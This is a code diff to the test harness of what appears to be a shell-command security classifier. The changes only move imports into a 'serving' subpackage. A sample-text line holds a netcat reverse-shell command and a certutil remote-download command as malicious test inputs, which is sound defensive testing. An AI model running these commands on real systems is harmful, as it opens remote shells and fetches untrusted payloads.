@@ -184,8 +184,8 @@ def _readers_targets() -> dict[str, tuple[list[bytes], Callable[[bytes, Path], A
 
 
 def _scoring_targets(bundles: dict[str, Path]) -> dict[str, tuple[list[bytes], Callable[[bytes, Path], Any]]]:
-    from distilsec.runtime.onnx_model import OnnxModel
-    from distilsec.scoring import ScoreStats, iter_records
+    from distilsec.serving.runtime.onnx_model import OnnxModel
+    from distilsec.serving.scoring import ScoreStats, iter_records
 
     def records(fmt: str) -> Callable[[bytes, Path], Any]:
         def run(data: bytes, tmp: Path) -> Any:
@@ -225,7 +225,7 @@ STATUS_COUNTS: dict[int, int] = {}
 def _api_target(bundles: dict[str, Path]) -> tuple[Any, dict[str, tuple[list[bytes], Callable[[bytes, Path], Any]]]]:
     from fastapi.testclient import TestClient
 
-    from distilsec.serve import ServeSettings, create_app
+    from distilsec.serving.api import ServeSettings, create_app
 
     client = TestClient(
         create_app(ServeSettings(models={k: str(v) for k, v in bundles.items()}, max_request_bytes=65536))
@@ -246,7 +246,7 @@ def _api_target(bundles: dict[str, Path]) -> tuple[Any, dict[str, tuple[list[byt
 
 def tiny_bundles(root: Path) -> dict[str, Path]:
     from distilsec.bundle import update_manifest
-    from distilsec.export import export_onnx
+    from distilsec.serving.export import export_onnx
     from distilsec.students import CharCNNStudent, HashedLinearStudent
 
     texts = ["ls -la", "git status", "nc -e /bin/sh 1.2.3.4 9", "certutil -urlcache -f http://x/a a"] * 10
